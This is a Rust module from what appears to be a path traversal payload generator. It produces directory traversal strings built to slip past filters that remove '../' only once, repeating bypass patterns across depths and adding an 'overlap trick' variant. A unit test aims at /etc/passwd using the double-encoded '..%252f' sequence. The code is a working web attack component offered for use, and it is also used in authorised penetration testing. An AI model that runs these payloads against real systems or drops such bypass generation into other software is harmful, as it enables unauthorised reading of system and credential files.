//! `non_recursive`: patterns designed to survive a filter that strips `../`
//! exactly once rather than recursively. Emits plain repetitions of each
//! base bypass pattern across every configured depth, plus an "overlap
//! trick" variant at depths 3 and 4 that looks like a realistic path
//! component rather than a wall of repeated bytes.

use crate::constants::{NON_RECURSIVE_BYPASS_PATTERNS, NON_RECURSIVE_TOP_N};
use crate::encoding::{repeat, repeat_with_overlap};
use crate::generator::{relative_target_files, GenerateParams};
use crate::methods::with_target;

pub fn generate(params: &GenerateParams) -> Vec<String> {
    let patterns: Vec<&str> = NON_RECURSIVE_BYPASS_PATTERNS
        .iter()
        .copied()
        .take(NON_RECURSIVE_TOP_N)
        .collect();
    let targets = relative_target_files(params);
    let mut out = Vec::new();

    for pattern in &patterns {
        for depth in params.depth_range() {
            let plain = repeat(pattern, depth);
            for target in &targets {
                out.push(with_target(&plain, target, params.extension.as_deref()));
            }
            if depth == 3 || depth == 4 {
                let overlapped = repeat_with_overlap(pattern, depth);
                for target in &targets {
                    out.push(with_target(&overlapped, target, params.extension.as_deref()));
                }
            }
        }
    }

    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::{DetectionMethod, OsType};

    #[test]
    fn depth_three_contains_the_literal_triple_repetition() {
        let mut params = GenerateParams::new(OsType::Unix, 3, DetectionMethod::NonRecursive);
        params.target_file = Some("/etc/passwd".to_string());
        let out = generate(&params);
        assert!(out
            .iter()
            .any(|p| p.starts_with("..%252f..%252f..%252f")));
    }
}
